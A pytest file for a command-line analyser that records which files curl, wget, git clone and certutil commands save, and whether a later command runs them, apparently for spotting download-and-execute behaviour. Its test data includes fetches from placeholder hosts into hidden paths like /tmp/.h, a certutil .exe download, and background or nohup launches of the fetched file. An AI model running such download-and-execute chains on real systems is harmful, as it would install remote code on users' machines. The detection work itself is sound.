"""Files that command lines fetch are known, and so is it which of them a later command starts."""

from __future__ import annotations

import pytest

from bonded.facts.fetching import runs, saved_by

SAVED = {
    "curl -s -o /tmp/.h https://files.example.invalid/h": ["/tmp/.h"],
    "curl -sO https://files.example.invalid/h.py": ["h.py"],
    "curl -s https://files.example.invalid/h": [""],
    "wget -q https://files.example.invalid/h -O /tmp/.h": ["/tmp/.h"],
    "wget https://files.example.invalid/a/h.py?x=1": ["h.py"],
    "git clone -q https://git.example.invalid/x/y.git": ["y"],
    "git clone https://git.example.invalid/x/y.git /tmp/.y && ls": ["/tmp/.y"],
    "git clone git@git.example.invalid:x/y.git /tmp/.y": ["/tmp/.y"],
    "certutil -urlcache -f https://files.example.invalid/h.exe h.exe": ["h.exe"],
    "echo done": [],
}


@pytest.mark.parametrize("line", sorted(SAVED))
def test_what_a_command_line_fetches(line: str) -> None:
    assert list(saved_by(line)) == SAVED[line]


@pytest.mark.parametrize(
    "line",
    [
        "/tmp/.h",
        "/tmp/.h &",
        "sh /tmp/.h",
        "python3 -u /tmp/.h/run.py",
        "… /tmp/.h/run.py",
        "cd /tmp; /tmp/.h",
        "nohup /tmp/.h x",
    ],
)
def test_a_fetched_file_is_started(line: str) -> None:
    assert runs(line, "/tmp/.h")


@pytest.mark.parametrize(
    "line",
    [
        "tar xf /tmp/.h",
        "chmod +x /tmp/.h",
        "python read.py /tmp/.h",
        "/tmp/.hidden",
        "python /tmp/.h/setup.py install",
        "ls",
    ],
)
def test_other_uses_start_nothing(line: str) -> None:
    assert not runs(line, "/tmp/.h")
